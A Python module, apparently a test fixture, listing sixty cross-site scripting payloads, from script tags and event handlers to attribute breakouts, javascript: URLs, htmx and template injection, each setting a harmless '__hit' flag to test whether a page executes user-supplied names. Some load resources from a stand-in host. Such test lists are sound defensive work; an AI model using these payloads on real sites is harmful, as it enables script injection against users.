"""Sixty texts that do something where a page takes them for more than text.

What they would do is set `__hit`, which is looked for in the browser. None is longer than a name may be:
100 characters.
"""

from typing import Final

PAYLOADS: Final = (
    # Elements that run by themselves.
    "<script>__hit=1</script>",
    "<ScRiPt>__hit=1</sCrIpT>",
    "<script/x>__hit=1</script>",
    "<script src=data:text/javascript,__hit=1></script>",
    "<script src=//exempel.org/x.js></script>",
    "<script type=module>globalThis.__hit=1</script>",
    "<scr<script>ipt>__hit=1</script>",
    "<script>__hit=1//",
    "<svg><script>__hit=1</script></svg>",
    "<svg><script href=data:,__hit=1 />",
    "<math><mtext></p><script>__hit=1</script>",
    "<noscript><p title='</noscript><script>__hit=1</script>'>",
    "<template><script>__hit=1</script></template>",
    # Event handlers.
    "<img src=x onerror=__hit=1>",
    "<img src=x onerror='__hit=1'//",
    "<IMG SRC=x ONERROR=__hit=1>",
    "<img/src=x/onerror=__hit=1>",
    "<img src=x onerror&#61;__hit=1>",
    "<svg onload=__hit=1>",
    "<svg/onload=__hit=1>",
    "<svg><animate onbegin=__hit=1 attributeName=x dur=1s>",
    "<body onload=__hit=1>",
    "<details open ontoggle=__hit=1>",
    "<input autofocus onfocus=__hit=1>",
    "<select autofocus onfocus=__hit=1>",
    "<video src=x onerror=__hit=1>",
    "<audio src=x onerror=__hit=1>",
    "<marquee onstart=__hit=1>",
    "<p style=animation-name:x onanimationstart=__hit=1>",
    "<dialog open onclose=__hit=1><form method=dialog><button autofocus>",
    # Out of an attribute, a text area, a title, a comment, a style.
    '" autofocus onfocus=__hit=1 x="',
    "' autofocus onfocus=__hit=1 x='",
    '"><script>__hit=1</script>',
    "'><img src=x onerror=__hit=1>",
    '" onmouseover=__hit=1 style=position:fixed;inset:0 x="',
    "` onmouseover=__hit=1 `",
    "</textarea><script>__hit=1</script>",
    "</title><script>__hit=1</script>",
    "</option></select><img src=x onerror=__hit=1>",
    "--><script>__hit=1</script>",
    "]]><script>__hit=1</script>",
    "</style><script>__hit=1</script>",
    # Addresses, frames, forms.
    "javascript:__hit=1",
    "jAvAsCrIpT&colon;__hit=1",
    '<a href="javascript:__hit=1" autofocus>x</a>',
    '<a href="\tjava\nscript:__hit=1">x</a>',
    "<iframe src=javascript:parent.__hit=1>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'>",
    "<object data=data:text/html,<script>__hit=1</script>>",
    "<embed src=javascript:__hit=1>",
    "<form action=javascript:__hit=1><button autofocus>x",
    "<base href=//exempel.org/>",
    "<meta http-equiv=refresh content=0;url=//exempel.org/>",
    "<link rel=stylesheet href=//exempel.org/x.css>",
    "<style>@import'//exempel.org/x.css';*{background:url(//exempel.org/x)}</style>",
    # htmx, templates, JSON, what is read twice.
    "<div hx-on::load=__hit=1 hx-on:click=__hit=1>",
    "<div hx-get=/konto/halsa/ hx-trigger='load[__hit=1]' hx-vals='js:{a:__hit=1}'>",
    "{{ 7|add:7 }}{% load static %}${__hit=1}#{__hit=1}",
    '"}]}</script><script>__hit=1</script>',
    "\u003cscript\u003e__hit=1\u003c/script\u003e\u2028&lt;img src=x onerror=__hit=1&gt;",
)
